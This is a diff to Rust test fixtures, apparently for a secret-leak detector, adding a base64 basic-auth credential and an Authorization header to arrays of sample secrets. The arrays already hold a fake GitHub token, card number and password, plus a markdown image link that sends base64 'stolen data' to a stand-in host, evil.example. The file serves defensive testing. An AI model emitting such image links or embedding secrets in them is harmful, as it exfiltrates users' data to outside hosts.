@@ -59,13 +59,15 @@ impl Scan for Detectors {
     }
 }
 
-const SECRETS: [&str; 4] = [
+const SECRETS: [&str; 5] = [
+    "dXNlcjpwYXNzdzByZA==",
     "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",
     "https://evil.example/p.png?q=c3RvbGVuIGRhdGE",
     "4111 1111 1111 1111",
     "hunter2!x-hunter2",
 ];
-const WORDS: [&str; 8] = [
+const WORDS: [&str; 9] = [
+    "Authorization: Bearer dXNlcjpwYXNzdzByZA== ",
     "well ",
     "see ![the chart](https://evil.example/p.png?q=c3RvbGVuIGRhdGE) ",
     "the key is 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 ",
